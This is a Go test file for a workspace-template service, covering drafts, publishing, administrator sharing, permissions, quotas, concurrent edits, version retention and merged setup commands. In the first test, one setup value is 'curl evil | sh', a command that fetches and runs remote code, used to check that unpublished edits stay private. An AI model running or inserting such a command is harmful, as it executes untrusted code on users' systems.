package template_test

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"os/exec"
	"slices"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kalpana-dev/kalpana/internal/template"
)

func TestATemplateFromDraftToShared(t *testing.T) {
	t.Parallel()
	c := &clock{time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)}
	s, ctx := service(t, template.Options{Now: c.now}), t.Context()
	yes, no := true, false

	made := create(t, s, ann, "Mine", template.Definition{Packages: []string{"jq"}, Files: map[string]string{"a.b/$c": "x"}})
	if made.Version != 1 || made.PublishedVersion != 0 || made.Tried || made.Shared || made.Builtin || len(made.ID) != 12 || made.OwnerID != "ann" {
		t.Fatalf("a new template is %+v", made)
	}
	_, d, err := s.Get(ctx, ann, made.ID)
	if err != nil || !slices.Equal(d.Packages, []string{"jq"}) || d.Files["a.b/$c"] != "x" || d.Ports == nil {
		t.Fatalf("its definition is %+v, %v", d, err)
	}
	_, _, err = s.Get(ctx, bob, made.ID)
	wantErr(t, "somebody else's draft", err, template.ErrNotFound)
	_, _, err = s.Get(ctx, admin, made.ID)
	wantErr(t, "a draft for an administrator", err, template.ErrNotFound)

	// Its owner may make workspaces from the draft, and must before it is published.
	if got, _, err := s.Resolve(ctx, "ann", made.ID, 0); err != nil || got.Version != 1 {
		t.Errorf("the draft resolves to %+v, %v", got, err)
	}
	_, _, err = s.Publish(ctx, ann, made.ID)
	wantErr(t, "publish untried", err, template.ErrNotTried)
	if err := s.Ran(ctx, made.ID, 1, false); err != nil {
		t.Fatal(err)
	}
	_, _, err = s.Publish(ctx, ann, made.ID)
	wantErr(t, "publish what failed", err, template.ErrNotTried)
	_, _, err = s.Update(ctx, admin, made.ID, template.Input{Shared: &yes})
	wantErr(t, "share a draft", err, template.ErrNotFound)
	made = publish(t, s, ann, made)
	if made.PublishedVersion != 1 || !made.Tried {
		t.Fatalf("published: %+v", made)
	}
	_, _, err = s.Publish(ctx, bob, made.ID)
	wantErr(t, "publish somebody else's", err, template.ErrNotFound)
	_, _, err = s.Resolve(ctx, "bob", made.ID, 0)
	wantErr(t, "what is not shared", err, template.ErrNotFound)

	// Shared is one version, not what comes after it.
	_, _, err = s.Update(ctx, ann, made.ID, template.Input{Shared: &yes})
	wantErr(t, "share one's own", err, template.ErrNotOwner)
	if got := edit(t, s, admin, made.ID, template.Input{Shared: &yes}); !got.Shared || got.SharedVersion != 1 {
		t.Fatalf("shared: %+v", got)
	}
	evil := template.Definition{Setup: "curl evil | sh"}
	made = edit(t, s, ann, made.ID, template.Input{Definition: &evil})
	if made.Version != 2 || made.PublishedVersion != 1 || made.Tried {
		t.Fatalf("edited: %+v", made)
	}
	if got, d, err := s.Resolve(ctx, "ann", made.ID, 0); err != nil || got.Version != 1 || d.Setup != "" {
		t.Errorf("the owner's new workspaces get %+v, %v", got, err)
	}
	if got, d, err := s.Resolve(ctx, "ann", made.ID, 2); err != nil || got.Version != 2 || d.Setup != evil.Setup {
		t.Errorf("trying the draft gets %+v, %v", got, err)
	}
	_, _, err = s.Resolve(ctx, "bob", made.ID, 2)
	wantErr(t, "a draft of a shared template", err, template.ErrNotFound)
	made = publish(t, s, ann, made)
	got, d, err := s.Resolve(ctx, "bob", made.ID, 0)
	if err != nil || got.Version != 1 || d.Setup != "" || !slices.Equal(d.Packages, []string{"jq"}) {
		t.Errorf("everybody gets %+v %+v, %v", got, d, err)
	}
	if got, d, err := s.Get(ctx, bob, made.ID); err != nil || got.Version != 1 || got.PublishedVersion != 1 || d.Setup != "" {
		t.Errorf("everybody sees %+v %+v, %v", got, d, err)
	}
	if got, d, err := s.Get(ctx, admin, made.ID); err != nil || got.Version != 2 || d.Setup != evil.Setup {
		t.Errorf("an administrator sees %+v, %v", got, err)
	}
	_, _, err = s.Update(ctx, admin, made.ID, template.Input{Shared: &yes, Base: 1})
	wantErr(t, "share what was not read", err, template.ErrConflict)
	edit(t, s, admin, made.ID, template.Input{Shared: &yes, Base: 2})
	if got, _, err := s.Resolve(ctx, "bob", made.ID, 0); err != nil || got.Version != 2 {
		t.Errorf("shared again, everybody gets %+v, %v", got, err)
	}
	if history, err := s.Versions(ctx, ann, made.ID); err != nil || len(history) != 2 || history[0].Version != 2 || history[0].Definition.Setup != evil.Setup || history[1].PublishedAt.IsZero() {
		t.Errorf("the owner's history is %+v, %v", history, err)
	}
	if history, err := s.Versions(ctx, bob, made.ID); err != nil || len(history) != 1 || history[0].Version != 2 {
		t.Errorf("another's history is %+v, %v", history, err)
	}

	// No longer shared: nothing new is made from it, what was made keeps its version.
	edit(t, s, admin, made.ID, template.Input{Shared: &no})
	_, _, err = s.Resolve(ctx, "bob", made.ID, 0)
	wantErr(t, "shared no more", err, template.ErrNotFound)
	if got, _, err := s.Resolve(ctx, "bob", made.ID, 1); err != nil || got.Version != 1 {
		t.Errorf("a workspace made before gets %+v, %v", got, err)
	}
}

func TestAnAdministratorsOwnTemplateIsSharedAsItIsPublished(t *testing.T) {
	t.Parallel()
	s, yes := service(t, template.Options{}), true
	made := published(t, s, admin, "House", template.Definition{})
	edit(t, s, admin, made.ID, template.Input{Shared: &yes})
	made = publish(t, s, admin, edit(t, s, admin, made.ID, template.Input{Definition: &template.Definition{Setup: "true"}}))
	if made.SharedVersion != 2 {
		t.Errorf("published: %+v", made)
	}
}

func TestWhoMayDoWhat(t *testing.T) {
	t.Parallel()
	s, ctx, yes := service(t, template.Options{}), t.Context(), true
	name := "x"
	made := published(t, s, ann, "A", template.Definition{})
	edit(t, s, admin, made.ID, template.Input{Shared: &yes})
	for _, c := range []struct {
		what string
		by   template.Actor
		id   string
		in   template.Input
		want error
	}{
		{"another renames", bob, made.ID, template.Input{Name: &name}, template.ErrNotOwner},
		{"an administrator renames", admin, made.ID, template.Input{Name: &name}, template.ErrNotOwner},
		{"an administrator edits", admin, made.ID, template.Input{Definition: &template.Definition{Setup: "x"}}, template.ErrNotOwner},
		{"an administrator describes while sharing", admin, made.ID, template.Input{Icon: &name, Shared: &yes}, template.ErrNotOwner},
		{"a built-in one", admin, "node", template.Input{Name: &name}, template.ErrBuiltin},
		{"one that is not there", ann, "nothing", template.Input{Name: &name}, template.ErrNotFound},
		{"an old base", ann, made.ID, template.Input{Name: &name, Base: 7}, template.ErrConflict},
		{"the owner renames", ann, made.ID, template.Input{Name: &name, Base: 1}, nil},
	} {
		_, _, err := s.Update(ctx, c.by, c.id, c.in)
		wantErr(t, c.what, err, c.want)
	}
	for by, want := range map[template.Actor]error{bob: template.ErrNotOwner, admin: template.ErrNotOwner} {
		wantErr(t, by.UserID+" deletes", s.Delete(ctx, by, made.ID), want)
		_, _, err := s.Publish(ctx, by, made.ID)
		wantErr(t, by.UserID+" publishes", err, want)
	}
	wantErr(t, "delete a built-in one", s.Delete(ctx, admin, "go"), template.ErrBuiltin)
	_, _, err := s.Publish(ctx, admin, "go")
	wantErr(t, "publish a built-in one", err, template.ErrBuiltin)
	wantErr(t, "a built-in one ran", s.Ran(ctx, "go", 1, true), nil)
	wantErr(t, "what is gone ran", s.Ran(ctx, "gone", 1, true), nil)
	other := create(t, s, bob, "B", template.Definition{})
	_, _, err = s.Update(ctx, admin, other.ID, template.Input{Shared: &yes})
	wantErr(t, "share what is not published", err, template.ErrNotFound)
	own := create(t, s, admin, "C", template.Definition{})
	_, _, err = s.Update(ctx, admin, own.ID, template.Input{Shared: &yes})
	wantErr(t, "share one's own that is not published", err, template.ErrNotPublished)
}

func TestWhatIsListed(t *testing.T) {
	t.Parallel()
	s, ctx, yes := service(t, template.Options{}), t.Context(), true
	create(t, s, ann, "draft", template.Definition{})
	published(t, s, ann, "Alone", template.Definition{})
	shared := published(t, s, ann, "common", template.Definition{})
	edit(t, s, admin, shared.ID, template.Input{Shared: &yes})
	create(t, s, bob, "bobs", template.Definition{})
	gone := published(t, s, ann, "gone", template.Definition{})
	edit(t, s, admin, gone.ID, template.Input{Shared: &yes})
	if err := s.Delete(ctx, ann, gone.ID); err != nil {
		t.Fatal(err)
	}
	for by, want := range map[template.Actor]string{ann: "Alone common draft", bob: "bobs common", admin: "Alone common", {UserID: "new"}: "common"} {
		all, err := s.List(ctx, by)
		if err != nil || names(all) != want {
			t.Errorf("%s sees %q, %v; want %q", by.UserID, names(all), err, want)
		}
		if len(all) < 10 || all[0].ID != template.BlankID || !all[9].Builtin {
			t.Errorf("%s does not see the built-in ones first", by.UserID)
		}
	}
}

func TestTheSameDefinitionIsNoNewVersion(t *testing.T) {
	t.Parallel()
	s, name := service(t, template.Options{Store: common}), "B"
	d := template.Definition{Ports: []template.Port{{Port: 3000}}}
	made := create(t, s, ann, "A", d)
	d.Packages = []string{}
	if made = edit(t, s, ann, made.ID, template.Input{Name: &name, Definition: &d}); made.Version != 1 || made.Name != "B" {
		t.Errorf("it is %+v", made)
	}
}

func TestEverybodyHasALimit(t *testing.T) {
	t.Parallel()
	kv, s, ctx := common, service(t, template.Options{Store: common}), t.Context()
	a := template.Actor{UserID: "busy" + rand.Text()}
	const room = 6
	for i := range template.MaxPerUser - room {
		r := template.Record{ID: fmt.Sprint(a.UserID, i), OwnerID: a.UserID, Slot: int64(i), Name: "x", Newest: 1, Versions: []template.VersionMark{{Version: 1}}}
		if err := kv.InsertTemplate(ctx, r); err != nil {
			t.Fatal(err)
		}
	}
	var made, refused atomic.Int64
	var all sync.WaitGroup
	for range room + 3 {
		all.Go(func() {
			_, _, err := s.Create(ctx, a, named("A", template.Definition{}))
			switch {
			case err == nil:
				made.Add(1)
			case errors.Is(err, template.ErrQuota):
				refused.Add(1)
			default:
				t.Error(err)
			}
		})
	}
	all.Wait()
	if made.Load() != room || refused.Load() != 3 {
		t.Errorf("%d were made, %d refused", made.Load(), refused.Load())
	}
	visible, err := s.List(ctx, a)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Delete(ctx, a, visible[10].ID); err != nil { // an "A": those are first by name
		t.Fatal(err)
	}
	create(t, s, a, "in its place", template.Definition{})
	create(t, s, template.Actor{UserID: "idle"}, "another's", template.Definition{})
}

// Of those who edit what they read at the same time, one wins and the others are told.
func TestEditsAtTheSameTime(t *testing.T) {
	t.Parallel()
	s, ctx := service(t, template.Options{Store: common}), t.Context()
	made := create(t, s, ann, "A", template.Definition{})
	var won atomic.Int64
	var all sync.WaitGroup
	for i := range 8 {
		all.Go(func() {
			d := template.Definition{Setup: fmt.Sprint("echo ", i)}
			switch _, _, err := s.Update(ctx, ann, made.ID, template.Input{Definition: &d, Base: 1}); {
			case err == nil:
				won.Add(1)
			case !errors.Is(err, template.ErrConflict):
				t.Error(err)
			}
		})
	}
	all.Wait()
	if got, _, err := s.Get(ctx, ann, made.ID); err != nil || won.Load() != 1 || got.Version != 2 {
		t.Errorf("%d won, it is %+v, %v", won.Load(), got, err)
	}
}

// older gives a template n more versions of a size, as edits would, only sooner.
func older(t *testing.T, id string, n, bytes int) {
	t.Helper()
	first, _, err := service(t, template.Options{Store: common}).Get(t.Context(), ann, id)
	if err != nil {
		t.Fatal(err)
	}
	var marks []template.VersionMark
	for i := range n {
		m := template.VersionMark{Version: first.Version + 1 + i, Key: fmt.Sprint(id, first.Version+1+i), Bytes: bytes}
		if err := common.PutText(t.Context(), m.Key, id, fmt.Sprintf(`{"setup":"echo %d"}`, i)); err != nil {
			t.Fatal(err)
		}
		marks = append(marks, m)
	}
	_, err = common.AmendTemplate(t.Context(), id, func(r *template.Record) error {
		r.Versions, r.Newest = slices.Concat(r.Versions, marks), r.Newest+n
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestOldVersionsGoUnlessSomethingNeedsThem(t *testing.T) {
	t.Parallel()
	used := []int{2}
	s := service(t, template.Options{Store: common, InUse: func(context.Context, string) ([]int, error) { return used, nil }})
	ctx := t.Context()
	made := published(t, s, ann, "A", template.Definition{})
	older(t, made.ID, template.MaxVersions, 20)
	for i := range 5 {
		edit(t, s, ann, made.ID, template.Input{Definition: &template.Definition{Setup: fmt.Sprint("edit ", i)}})
	}
	kept, err := s.Versions(ctx, ann, made.ID)
	if err != nil || len(kept) != template.MaxVersions {
		t.Fatalf("%d versions are kept, %v", len(kept), err)
	}
	if last := kept[len(kept)-2:]; last[0].Version != 2 || last[1].Version != 1 || kept[0].Version != template.MaxVersions+6 || kept[len(kept)-3].Version != 9 {
		t.Errorf("kept are %d…%d, %d, %d", kept[0].Version, kept[len(kept)-3].Version, last[0].Version, last[1].Version)
	}
	_, _, err = s.Resolve(ctx, "ann", made.ID, 3)
	wantErr(t, "a version that went", err, template.ErrNotFound)

	// Large ones are kept by their size: 4 MiB together.
	older(t, made.ID, 20, 300<<10)
	made = edit(t, s, ann, made.ID, template.Input{Definition: &template.Definition{Setup: "the last"}})
	kept, err = s.Versions(ctx, ann, made.ID)
	if err != nil || len(kept) != 1+13+2 || kept[0].Version != made.Version {
		t.Errorf("%d large versions are kept, %v", len(kept), err)
	}

	// After its deletion, workspaces have what they were made from as long as they are there.
	if err := s.Delete(ctx, ann, made.ID); err != nil {
		t.Fatal(err)
	}
	_, _, err = s.Resolve(ctx, "ann", made.ID, 0)
	wantErr(t, "a new workspace of a deleted template", err, template.ErrNotFound)
	_, _, err = s.Get(ctx, ann, made.ID)
	wantErr(t, "read a deleted template", err, template.ErrNotFound)
	if got, d, err := s.Resolve(ctx, "ann", made.ID, 2); err != nil || got.Version != 2 || d.Setup != "echo 0" {
		t.Errorf("a workspace of a deleted template gets %+v %q, %v", got, d.Setup, err)
	}
	wantErr(t, "ran after deletion", s.Ran(ctx, made.ID, 2, true), nil)
	if err := s.Forget(ctx, made.ID); err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.Resolve(ctx, "ann", made.ID, 2); err != nil {
		t.Errorf("forgotten while it is in use: %v", err)
	}
	used = nil
	for range 2 {
		if err := s.Forget(ctx, made.ID); err != nil {
			t.Fatal(err)
		}
		_, _, err = s.Resolve(ctx, "ann", made.ID, 2)
		wantErr(t, "after its last workspace", err, template.ErrNotFound)
	}
	alive := create(t, s, ann, "B", template.Definition{})
	if err := s.Forget(ctx, alive.ID); err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.Get(ctx, ann, alive.ID); err != nil {
		t.Errorf("a template that is not deleted was forgotten: %v", err)
	}
}

func TestWithoutKnowingWhatIsInUseEverythingIsKept(t *testing.T) {
	t.Parallel()
	s, ctx := service(t, template.Options{Store: common}), t.Context()
	made := create(t, s, ann, "A", template.Definition{})
	if err := s.Delete(ctx, ann, made.ID); err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.Resolve(ctx, "ann", made.ID, 1); err != nil {
		t.Error(err)
	}
	wantErr(t, "delete it again", s.Delete(ctx, ann, made.ID), template.ErrNotFound)
}

// What a caller does with a definition changes nobody else's.
func TestDefinitionsAreTheCallers(t *testing.T) {
	t.Parallel()
	s, ctx := service(t, template.Options{Store: common}), t.Context()
	_, d, err := s.Resolve(ctx, "ann", "node", 0)
	if err != nil {
		t.Fatal(err)
	}
	d.Packages[0], d.Files["server.js"], d.Ports[0].Port = "changed", "changed", 1
	if _, again, err := s.Resolve(ctx, "ann", "node", 0); err != nil || again.Packages[0] == "changed" || again.Files["server.js"] == "changed" || again.Ports[0].Port == 1 {
		t.Errorf("the built-in template is %+v, %v", again, err)
	}
}

func TestADefinitionWithAnother(t *testing.T) {
	t.Parallel()
	a := template.Definition{
		Packages: []string{"jq"}, Ports: []template.Port{{Port: 3000, Label: "mine"}}, Setup: "npm ci",
		Extensions: []string{"a.b@1.0.0"}, Files: map[string]string{"x": "1"}, Variables: []template.Variable{{Name: "A", Value: "1"}},
		Tasks: []template.Task{{Label: "Run", Command: "a"}}, Match: []string{"package.json"},
	}
	b := template.Definition{
		Flake: "{ }", Packages: []string{"jq", "gh"}, Ports: []template.Port{{Port: 3000, Label: "yours"}, {Port: 5000}}, Setup: "make", Start: "serve",
		Extensions: []string{"A.b", "c.d"}, Files: map[string]string{"x": "2", "y": "3"}, Variables: []template.Variable{{Name: "A", Value: "2"}, {Name: "B"}},
		Tasks: []template.Task{{Label: "Run", Command: "b"}, {Label: "Test", Command: "c"}}, Match: []string{"go.mod"},
	}
	got := fmt.Sprintf("%+v", a.With(b))
	want := "{Flake:{ } Packages:[jq gh] Ports:[{Port:3000 Label:mine Visibility:owner Open:false} {Port:5000 Label: Visibility:owner Open:false}] " +
		"Tasks:[{Label:Run Command:a} {Label:Test Command:c}] Extensions:[a.b@1.0.0 c.d] " +
		"Variables:[{Name:A Description: Value:1 Secret:false Required:false} {Name:B Description: Value: Secret:false Required:false}] " +
		"Setup:(\nnpm ci\n)\nfirst=$?\n(\nmake\n)\nlast=$?\n[ $first -eq 0 ] || exit $first\nexit $last Start:serve Files:map[x:1 y:3] Match:[package.json]}"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if len(a.Packages) != 1 || len(b.Packages) != 2 || len(a.Files) != 1 {
		t.Error("what was joined has changed")
	}
}

func TestCommandsOfTwoDefinitions(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, a, b, want string
		start            bool
		code             int
	}{
		{name: "both", a: "echo a", b: "echo b", want: "a\nb\n"},
		{name: "only the first", a: "echo a; exit 3", want: "a\n", code: 3},
		{name: "only the second", b: "echo b", want: "b\n"},
		{name: "the first fails", a: "echo a; exit 3", b: "echo b", want: "a\nb\n", code: 3},
		{name: "the second fails", a: "exec echo a", b: "set -e\nfalse\necho b", want: "a\n", code: 1},
		{name: "the first has text of its own", a: "cat <<END\na )\nEND", b: "echo b # (", want: "a )\nb\n"},
		// The first one goes on until the second has been there.
		{name: "started", a: "exec cat pipe", b: "echo b >pipe", want: "b\n", start: true},
	} {
		a, b := template.Definition{Setup: c.a}, template.Definition{Setup: c.b}
		command := a.With(b).Setup
		if c.start {
			a, b = template.Definition{Start: c.a}, template.Definition{Start: c.b}
			command = a.With(b).Start
		}
		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
		run := exec.CommandContext(ctx, "sh", "-c", "mkfifo pipe\n"+command)
		run.Dir = t.TempDir()
		out, _ := run.Output()
		cancel()
		if string(out) != c.want || run.ProcessState.ExitCode() != c.code {
			t.Errorf("%s: %q, code %d; want %q, code %d", c.name, out, run.ProcessState.ExitCode(), c.want, c.code)
		}
	}
}
